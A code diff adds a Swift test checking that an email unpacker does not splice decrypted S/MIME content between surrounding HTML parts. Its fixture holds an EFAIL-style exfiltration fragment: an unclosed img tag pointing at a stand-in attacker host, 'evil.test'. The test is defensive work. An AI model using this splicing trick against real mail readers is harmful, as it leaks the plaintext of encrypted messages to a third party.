@@ -4,6 +4,7 @@ internal import Materials
 import Testing
 
 @testable import Inspection
+@testable import Pictures
 @testable import Unpacking
 
 /// Against what OpenSSL itself writes, with a key made for the test.
@@ -32,6 +33,26 @@ struct SignedMailTests {
     func encrypted() throws {
         let message = try Self.openssl("-encrypt", "-aes256", "key.pem")
         #expect(try unpack([("smime.p7m", message)]).unopened.map(\.reason) == [.encrypted])
+    }
+
+    @Test("what is encrypted is not put between the pieces of HTML around it (S6)")
+    func betweenHTML() throws {
+        let message = try Self.openssl("-encrypt", "-aes256", "key.pem")
+        func part(_ type: String, _ content: [UInt8]) -> String {
+            "--b\r\nContent-Type: \(type)\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+                + Data(content).base64EncodedString(options: .lineLength76Characters) + "\r\n"
+        }
+        let mail =
+            "From: a@example.test\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
+            + part("text/html", Array("<img src=\"http://evil.test/?".utf8))
+            + part("application/pkcs7-mime; smime-type=enveloped-data", message)
+            + part("text/html", Array("\">words".utf8)) + "--b--\r\n"
+        let reader = MessageReader()
+        let unpacked = Unpacker(reader: reader, drawing: Examination.standard().drawing)
+            .unpack(reader.read(Array(mail.utf8)))
+        #expect(unpacked.unopened.map(\.reason) == [.encrypted])
+        #expect(!unpacked.mail.message.fullText.contains("The letter is attached"))
+        #expect(unpacked.mail.message.links.isEmpty && !unpacked.mail.message.isSigned)
     }
 
     private static func openssl(_ arguments: String...) throws -> [UInt8] {
